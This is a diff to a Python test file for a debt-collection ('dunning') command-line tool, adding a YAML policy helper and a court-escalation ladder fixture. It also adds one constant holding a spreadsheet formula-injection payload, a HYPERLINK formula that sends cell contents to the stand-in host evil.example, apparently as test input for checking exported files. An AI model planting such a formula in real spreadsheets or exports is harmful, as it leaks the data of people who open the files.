@@ -11,6 +11,7 @@ from datetime import date, timedelta
 from pathlib import Path
 from typing import Any
 
+import yaml
 from typer.testing import CliRunner, Result
 
 from dunning.cli import app
@@ -19,6 +20,26 @@ from tests.conftest import Portfolio, query
 MONDAY = date(2026, 11, 2)
 # The installed command, for the tests that run it as a separate process.
 DUNNING = shutil.which("dunning", path=str(Path(sys.executable).parent)) or "dunning"
+
+
+# A value a spreadsheet would run as a formula, for the files people open.
+HYPERLINK = '=HYPERLINK("http://evil.example/?x="&A1,"click")'
+# A short ladder to the court: a reminder, a formal notice, the injunction file.
+COURT_LADDER = [
+    {"name": "friendly_reminder", "channel": "email", "days_after_due": 3,
+     "template": "friendly_reminder"},
+    {"name": "formal_notice", "channel": "letter", "days_after_due": 10,
+     "requires_approval": True, "template": "formal_notice"},
+    {"name": "injunction", "channel": "injunction", "days_after_due": 20,
+     "min_days_since_previous": 3, "requires_approval": True},
+]
+
+
+def change_policy(policy_file: Path, **fields: Any) -> None:
+    """Rewrite the test's policy file with these top-level fields."""
+    data = yaml.safe_load(policy_file.read_text(encoding="utf-8"))
+    data.update(fields)
+    policy_file.write_text(yaml.safe_dump(data, allow_unicode=True), encoding="utf-8")
 
 
 def day(n: int) -> date:
